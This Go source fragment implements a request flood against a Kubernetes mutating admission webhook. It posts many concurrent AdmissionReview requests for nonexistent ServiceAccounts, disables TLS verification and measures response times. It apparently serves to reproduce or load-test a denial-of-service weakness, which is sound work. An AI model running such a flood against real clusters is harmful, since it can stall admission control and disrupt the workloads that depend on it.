package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"time"
)

// patience is how long it waits for an answer before it asks about the next name.
const patience = 150 * time.Millisecond

// question is a review of a pod of a ServiceAccount.
func question(namespace, account string) string {
	return fmt.Sprintf(`{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"uid":"1","namespace":%q,`+
		`"object":{"metadata":{"name":"x"},"spec":{"serviceAccountName":%q,"containers":[{"name":"app","image":"app"}]}}}}`, namespace, account)
}

// ask asks about names that do not exist, each another.
func (f *flood) ask(ctx context.Context) {
	client := &http.Client{Transport: &http.Transport{
		MaxIdleConnsPerHost: f.connections, MaxConnsPerHost: f.connections,
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12}, //nolint:gosec // an attacker does not care
	}}
	var group sync.WaitGroup
	ticker := time.NewTicker(10 * time.Millisecond)
	defer ticker.Stop()
	begun := time.Now()
	places := make(chan struct{}, f.connections)
	for i := 0; ; {
		select {
		case <-ctx.Done():
			group.Wait()
			return
		case <-ticker.C:
		}
		for due := int(time.Since(begun).Seconds() * float64(f.rate)); i < due; i++ {
			select {
			case places <- struct{}{}:
			default:
				continue // as many as it may have are not answered
			}
			number := i
			group.Go(func() {
				defer func() { <-places }()
				f.askOne(ctx, client, number)
			})
		}
	}
}

func (f *flood) askOne(ctx context.Context, client *http.Client, number int) {
	// Who waits for answers asks less often.
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	name := fmt.Sprintf("nobody-%d", number)
	namespace := f.namespace
	if namespace == "" {
		namespace = "nowhere-" + name
	}
	began := time.Now()
	request, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+f.address+"/mutate", strings.NewReader(question(namespace, name)))
	if err != nil {
		f.counted.failed.Add(1)
		return
	}
	request.Header.Set("Content-Type", "application/json")
	f.counted.opened.Add(1)
	answer, err := client.Do(request)
	if err != nil {
		f.counted.failed.Add(1)
		return
	}
	_, _ = io.Copy(io.Discard, answer.Body) // what it says does not matter
	_ = answer.Body.Close()
	if answer.StatusCode != http.StatusOK {
		f.counted.failed.Add(1)
		return
	}
	f.counted.mu.Lock()
	f.counted.times = append(f.counted.times, time.Since(began))
	f.counted.mu.Unlock()
	f.counted.answered.Add(1)
}
